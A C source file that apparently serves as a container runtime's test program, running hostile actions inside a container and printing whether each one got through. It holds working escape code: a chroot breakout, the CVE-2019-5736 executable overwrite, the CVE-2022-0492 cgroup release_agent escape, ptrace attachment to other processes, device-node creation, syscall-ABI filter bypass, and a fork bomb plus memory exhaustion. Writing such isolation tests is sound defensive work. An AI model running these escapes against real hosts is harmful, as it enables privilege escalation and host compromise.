/* A hostile program inside a container: `inside ATTACK [ARGUMENT]`.
 *
 * Built statically by the test. An attack prints what it reached, and nothing if the kernel stopped it: the test reads
 * the output, and does not rely on the exit code. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* Leaves a chroot through a working directory above it, then prints the file at PATH if it can be read. */
static int leave_root(const char *path) {
    char text[256];
    int top = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/below", 0700);
    if (top >= 0 && chroot("/tmp/below") == 0 && fchdir(top) == 0) {
        for (int i = 0; i < 64; i++)
            if (chdir("..")) break;
        if (chroot(".")) return 1;
    }
    int file = open(path, O_RDONLY);
    ssize_t got = file < 0 ? -1 : read(file, text, sizeof text - 1);
    if (got > 0) printf("reached %.*s\n", (int)got, text);
    return 0;
}

/* Prints every open file descriptor above 2, and its target. */
static int descriptors(void) {
    for (int fd = 3; fd < 4096; fd++) {
        char name[64], target[256];
        if (fcntl(fd, F_GETFD) < 0) continue;
        snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(name, target, sizeof target - 1);
        printf("descriptor %d %.*s\n", fd, n < 0 ? 0 : (int)n, target);
    }
    return 0;
}

/* For SECONDS, opens the program of every other process and tries to write to it, as in CVE-2019-5736. */
static int overwrite(int seconds) {
    int written = 0, seen = 0;
    time_t end = time(NULL) + seconds;
    puts("ready");
    fflush(stdout);
    while (time(NULL) < end) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            char name[300];
            int pid = atoi(entry->d_name);
            if (pid <= 1 || pid == getpid()) continue;
            snprintf(name, sizeof name, "/proc/%d/exe", pid);
            int fd = open(name, O_RDONLY | O_CLOEXEC);
            if (fd < 0) continue;
            seen++;
            snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
            for (int i = 0; i < 2000; i++) {
                int out = open(name, O_WRONLY | O_CLOEXEC);
                if (out >= 0) {
                    written += write(out, "overwritten", 11) == 11;
                    close(out);
                    break;
                }
                if (errno != ETXTBSY) break;
            }
            close(fd);
        }
        if (proc) closedir(proc);
    }
    printf("opened %d, written %d\n", seen > 0, written);
    return 0;
}

/* The permitted capabilities of a process: all bits where they cannot be read. */
static unsigned long long permitted(const char *pid) {
    char name[64], line[256];
    unsigned long long caps = ~0ULL;
    snprintf(name, sizeof name, "/proc/%s/status", pid);
    FILE *status = fopen(name, "r");
    while (status && fgets(line, sizeof line, status)) sscanf(line, "CapPrm: %llx", &caps);
    if (status) fclose(status);
    return caps;
}

/* For SECONDS, attaches to every other process as a debugger, and prints those that have more capabilities than this one,
 * or another program than this one and the sealed image that a start passes through. */
static int attach(int seconds) {
    unsigned long long own = permitted("self");
    char program[256] = "", target[256];
    int stopped = 0, beyond = 0;
    ssize_t length = readlink("/proc/self/exe", program, sizeof program - 1);
    time_t end = time(NULL) + seconds;
    puts("ready");
    fflush(stdout);
    while (length > 0 && time(NULL) < end) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            char name[300];
            int status = 0, pid = atoi(entry->d_name);
            if (pid <= 1 || pid == getpid() || ptrace(PTRACE_ATTACH, pid, NULL, NULL)) continue;
            /* A process that has ended meanwhile is none that was reached. */
            if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status)) continue;
            stopped++;
            unsigned long long caps = permitted(entry->d_name);
            snprintf(name, sizeof name, "/proc/%d/exe", pid);
            ssize_t n = readlink(name, target, sizeof target - 1);
            target[n < 0 ? 0 : n] = 0;
            int foreign = strcmp(target, program) && strcmp(target, "/memfd:jobc-exec (deleted)");
            if ((caps & ~own) || foreign) {
                if (!beyond++) printf("traced `%s` with capabilities %llx, own %llx\n", target, caps, own);
            }
            /* A signal that stopped it before our own is the process's. */
            ptrace(PTRACE_DETACH, pid, NULL, (void *)(long)(WSTOPSIG(status) == SIGSTOP ? 0 : WSTOPSIG(status)));
            kill(pid, SIGCONT);
        }
        if (proc) closedir(proc);
    }
    printf("attached %d, beyond %d\n", stopped, beyond);
    return 0;
}

/* Creates a device node and opens it. */
static int node(const char *kind, int major_, int minor_) {
    const char *path = "/tmp/node";
    unlink(path);
    if (mknod(path, (kind[0] == 'b' ? S_IFBLK : S_IFCHR) | 0666, makedev(major_, minor_))) {
        printf("mknod: %s\n", strerror(errno));
        return 0;
    }
    int fd = open(path, O_RDONLY);
    if (fd >= 0) puts("opened"); else printf("open: %s\n", strerror(errno));
    return 0;
}

/* Starts children until the kernel refuses, and prints their number. */
static int bomb(int most) {
    int alive = 0;
    for (; alive < most; alive++) {
        pid_t child = fork();
        if (child < 0) break;
        if (child == 0) {
            pause();
            _exit(0);
        }
    }
    printf("children %d\n", alive);
    return 0;
}

/* Grandchildren, each in its own session, that ignore every signal that can be ignored. */
static int orphans(int count) {
    for (int i = 0; i < count; i++) {
        pid_t child = fork();
        if (child == 0) {
            setsid();
            if (fork()) _exit(0);
            for (int s = 1; s < 64; s++) signal(s, SIG_IGN);
            for (;;) pause();
        }
        waitpid(child, NULL, 0); /* not the grandchild, which may already be our child */
    }
    puts("ready");
    fflush(stdout);
    for (;;) pause();
}

/* Writes to memory until the kernel refuses. */
static int allocate(int mebibytes) {
    for (int i = 0; i < mebibytes; i++) {
        char *page = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (page == MAP_FAILED) break;
        memset(page, 1, 1 << 20);
        if (i % 16 == 15) { printf("touched %d\n", i + 1); fflush(stdout); }
    }
    return 0;
}

/* mkdir with the syscalls of this architecture and of its other ABIs. */
static int calls(void) {
    printf("mkdir %d\n", mkdir("/tmp/native", 0700) == 0 ? 0 : errno);
#ifdef __x86_64__
    long r = syscall(0x40000000 | 258, AT_FDCWD, "/tmp/x32", 0700);
    printf("x32 %ld\n", r == 0 ? 0L : (long)errno);
    fflush(stdout);
    char *low = mmap((void *)0x10000000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    if (low != MAP_FAILED) {
        strcpy(low, "/tmp/i386");
        long out;
        __asm__ volatile("int $0x80" : "=a"(out) : "a"(39L), "b"((long)low), "c"(0700L) : "memory");
        printf("i386 %ld\n", (long)(int)out);
    }
#endif
    return 0;
}

/* An unprivileged user starts the set-user-id copy of this program. */
static int privileges(void) {
    printf("uid %d %d gid %d %d\n", getuid(), geteuid(), getgid(), getegid());
    gid_t groups[64];
    int n = getgroups(64, groups);
    printf("groups");
    for (int i = 0; i < n; i++) printf(" %d", groups[i]);
    puts("");
    return 0;
}

/* Mounts a tmpfs at PATH and puts a file into it. */
static int mount_at(const char *path) {
    char name[512];
    if (mount("inside", path, "tmpfs", 0, NULL)) {
        printf("mount: %s\n", strerror(errno));
    } else {
        snprintf(name, sizeof name, "%s/made-inside", path);
        close(open(name, O_CREAT | O_WRONLY, 0600));
        puts("mounted");
    }
    fflush(stdout);
    char c;
    if (read(0, &c, 1) < 0) return 1;
    return 0;
}

/* Removes the read-only flag of a bind mount. */
static int remount(const char *path) {
    printf("remount %d\n", mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0 ? 0 : errno);
    return 0;
}

static int put(const char *directory, const char *name, const char *text) {
    char path[512];
    snprintf(path, sizeof path, "%s/%s", directory, name);
    int file = open(path, O_WRONLY | O_CLOEXEC);
    ssize_t done = file < 0 ? -1 : write(file, text, strlen(text));
    if (file >= 0) close(file);
    return done == (ssize_t)strlen(text);
}

/* Makes a program of the host the release agent of every cgroup v1 hierarchy that can be mounted, and has the kernel start it. */
static void write_agents(const char *agent, const char *as) {
    FILE *groups = fopen("/proc/self/cgroup", "r");
    char line[512], place[128], attack[160], options[300], pid[16];
    int number, tried = 0, written = 0;
    while (groups && fgets(line, sizeof line, groups)) {
        char *kind = strchr(line, ':'), *end = kind ? strchr(kind + 1, ':') : NULL;
        if (!end || end == kind + 1 || sscanf(line, "%d", &number) != 1) continue;
        *end = 0;
        snprintf(options, sizeof options, "%s%s", strncmp(kind + 1, "name=", 5) ? "" : "none,", kind + 1);
        snprintf(place, sizeof place, "/tmp/%s-%d", as, number);
        mkdir(place, 0700);
        tried++;
        if (mount("cgroup", place, "cgroup", 0, options)) continue;
        if (put(place, "release_agent", agent)) {
            printf("wrote %s of %s\n", as, options);
            written++;
            snprintf(attack, sizeof attack, "%s/attack", place);
            mkdir(attack, 0755);
            put(attack, "notify_on_release", "1");
            pid_t child = fork();
            if (child == 0) {
                snprintf(pid, sizeof pid, "%d", getpid());
                put(attack, "cgroup.procs", pid);
                _exit(0);
            }
            waitpid(child, NULL, 0);
            usleep(300000); /* until the agent has run */
            rmdir(attack);
        }
    }
    if (groups) fclose(groups);
    printf("%s tried %d, wrote %d\n", as, tried, written);
    fflush(stdout);
}

/* CVE-2022-0492: the same with the program's capabilities, and with those of a user namespace of its own. */
static int release_agent(const char *agent) {
    char map[64];
    write_agents(agent, "own");
    snprintf(map, sizeof map, "0 %d 1", getuid());
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)) {
        printf("unshare: %s\n", strerror(errno));
        return 0;
    }
    put("/proc/self", "uid_map", map);
    write_agents(agent, "unshared");
    return 0;
}

/* Says whether /proc is a procfs, with the process's own files, and whether the kernel's settings there can be written. */
static int proc(void) {
    struct statfs fs;
    char link[32] = "";
    ssize_t n = readlink("/proc/self", link, sizeof link - 1);
    int real = statfs("/proc", &fs) == 0 && fs.f_type == 0x9fa0 && n > 0 && atoi(link) == getpid();
    int file = open("/proc/sysrq-trigger", O_WRONLY | O_CLOEXEC);
    printf("proc %s%s\n", real ? "real" : "fake", file >= 0 ? " writable" : "");
    return 0;
}

int main(int argc, char **argv) {
    const char *word = argc > 1 ? argv[1] : "", *one = argc > 2 ? argv[2] : "", *two = argc > 3 ? argv[3] : "0",
               *three = argc > 4 ? argv[4] : "0";
    if (!strcmp(word, "leave-root")) return leave_root(one);
    if (!strcmp(word, "descriptors")) return descriptors();
    if (!strcmp(word, "overwrite")) return overwrite(atoi(one));
    if (!strcmp(word, "attach")) return attach(atoi(one));
    if (!strcmp(word, "node")) return node(one, atoi(two), atoi(three));
    if (!strcmp(word, "bomb")) return bomb(atoi(one));
    if (!strcmp(word, "orphans")) return orphans(atoi(one));
    if (!strcmp(word, "allocate")) return allocate(atoi(one));
    if (!strcmp(word, "calls")) return calls();
    if (!strcmp(word, "privileges")) return privileges();
    if (!strcmp(word, "mount")) return mount_at(one);
    if (!strcmp(word, "remount")) return remount(one);
    if (!strcmp(word, "release-agent")) return release_agent(one);
    if (!strcmp(word, "proc")) return proc();
    if (!strcmp(word, "hello")) return write(1, "hello\n", 6) != 6;
    fprintf(stderr, "inside: unknown attack `%s`\n", word);
    return 2;
}
